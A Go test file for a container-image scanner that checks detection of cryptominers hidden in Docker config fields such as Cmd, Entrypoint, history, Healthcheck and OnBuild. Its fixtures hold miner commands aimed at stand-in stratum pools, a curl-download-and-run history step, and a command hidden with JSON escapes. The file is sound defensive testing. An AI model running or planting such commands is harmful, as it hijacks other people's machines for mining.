package scanner

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"
)

func TestScanConfig(t *testing.T) {
	s := newTestScanner(t, Options{Workers: 2})
	minerCmd := `["/usr/local/bin/app", "-o", "` + stratumTCP + `pool.example.net:3333", "-u", "` + testWallet + `", "` + donateLevel + `=1"]`
	cases := []struct {
		name      string
		config    string
		wantRule  string
		wantPath  string
		wantBlock bool
		wantNot   string // a path that must have no finding
	}{
		{
			name:     "miner only in Cmd",
			config:   `{"architecture":"amd64","os":"linux","config":{"Env":["PATH=/usr/bin"],"Entrypoint":["/docker-entrypoint.sh"],"Cmd":` + minerCmd + `},"history":[{"created_by":"/bin/sh -c #(nop) ADD file:abc in / "}]}`,
			wantRule: "MinerInImageConfig", wantPath: "config:Cmd", wantBlock: true, wantNot: "config:json",
		},
		{
			name:     "miner in Entrypoint as a string",
			config:   `{"config":{"Entrypoint":"/x --url=stratum+ssl://pool.example.net:443"}}`,
			wantRule: "MinerInImageConfig", wantPath: "config:Entrypoint", wantBlock: true,
		},
		{
			name:     "miner installed in history",
			config:   `{"config":{"Cmd":["sh"]},"history":[{"created_by":"ADD rootfs"},{"created_by":"RUN apk add curl"},{"created_by":"RUN curl -sL http://x/m -o /m \u0026\u0026 chmod +x /m \u0026\u0026 echo /m ` + donateLevel + ` 1 \u003e /start"}]}`,
			wantRule: "MinerInImageConfig", wantPath: "config:history[2]", wantBlock: true,
		},
		{
			name:     "Docker v1 container_config",
			config:   `{"container_config":{"Cmd":["/bin/sh","-c","./x -o ` + stratumTCP + `p.example.net:80"]}}`,
			wantRule: "MinerInImageConfig", wantPath: "config:container_config.Cmd", wantBlock: true,
		},
		{
			// The Docker Engine runs a healthcheck in every container of
			// the image; JSON's escapes hide its text from the raw bytes.
			name:     "miner in Healthcheck, written with escapes",
			config:   `{"config":{"Cmd":["nginx"],"Healthcheck":{"Test":["CMD-SHELL","` + jsonEscapeAll("/tmp/x -o "+stratumTCP+"pool.example.net:3333 "+donateLevel+"=1") + `"]}}}`,
			wantRule: "MinerInImageConfig", wantPath: "config:strings", wantBlock: true, wantNot: "config:json",
		},
		{
			name:     "miner in OnBuild",
			config:   `{"config":{"Cmd":["sh"],"OnBuild":["RUN /tmp/x -o ` + stratumTCP + `pool.example.net:3333"]}}`,
			wantRule: "MinerInImageConfig", wantPath: "config:strings", wantBlock: true, wantNot: "config:json",
		},
		{
			name:     "wallet in Env does not block",
			config:   `{"config":{"Env":["WALLET=` + testWallet + `"],"Cmd":["node","server.js"]}}`,
			wantRule: "MoneroWalletAddress", wantPath: "config:Env",
		},
		{
			name:     "miner name in a label does not block",
			config:   `{"config":{"Labels":{"org.opencontainers.image.title":"xmrig exporter for prometheus"}}}`,
			wantRule: "MinerNameInImageConfig", wantPath: "config:Labels",
		},
		{
			name:   "clean config",
			config: `{"architecture":"amd64","config":{"Env":["PATH=/usr/local/sbin:/usr/local/bin"],"Cmd":["nginx","-g","daemon off;"],"Labels":{"maintainer":"NGINX"}},"history":[{"created_by":"CMD [\"nginx\" \"-g\" \"daemon off;\"]","empty_layer":true}]}`,
		},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			res, err := s.ScanConfig(context.Background(), []byte(c.config), Interactive)
			if err != nil {
				t.Fatalf("ScanConfig: %v", err)
			}
			if c.wantRule == "" && len(res.Findings) > 0 {
				t.Errorf("clean config has findings: %+v", res.Findings)
			}
			if c.wantRule != "" && !hasFinding(res.Findings, c.wantRule, c.wantPath) {
				t.Errorf("want %s at %s, got %+v", c.wantRule, c.wantPath, res.Findings)
			}
			for _, f := range res.Findings {
				if c.wantNot != "" && f.Path == c.wantNot {
					t.Errorf("unexpected finding %+v", f)
				}
			}
			if got := len(res.Blocking()) > 0; got != c.wantBlock {
				t.Errorf("blocking = %v, want %v: %+v", got, c.wantBlock, res.Findings)
			}
		})
	}
}

func TestScanConfigInvalid(t *testing.T) {
	s := newTestScanner(t, Options{Workers: 1})
	res, err := s.ScanConfig(context.Background(), []byte(`{"config": {"Cmd": "./x -o `+stratumTCP+`p:1", `), Interactive)
	if !errors.Is(err, ErrCorrupt) {
		t.Errorf("err = %v, want ErrCorrupt", err)
	}
	if !hasFinding(res.Findings, "MinerInImageConfig", configRawPath) {
		t.Errorf("raw bytes of an invalid config were not scanned: %+v", res.Findings)
	}
}

func TestScanConfigLimits(t *testing.T) {
	s := newTestScanner(t, Options{Workers: 1, Limits: Limits{MaxFileBytes: 1000}})
	_, err := s.ScanConfig(context.Background(), []byte(`{"config":{"Env":["A=`+strings.Repeat("a", 2000)+`"]}}`), Interactive)
	if !errors.Is(err, ErrLimit) {
		t.Errorf("err = %v, want ErrLimit", err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := s.ScanConfig(ctx, []byte(`{}`), Interactive); !errors.Is(err, context.Canceled) {
		t.Errorf("err = %v, want context.Canceled", err)
	}
}

// jsonEscapeAll writes every character of s as a JSON \u escape.
func jsonEscapeAll(s string) string {
	var b strings.Builder
	for _, r := range s {
		fmt.Fprintf(&b, "\\u%04x", r)
	}
	return b.String()
}
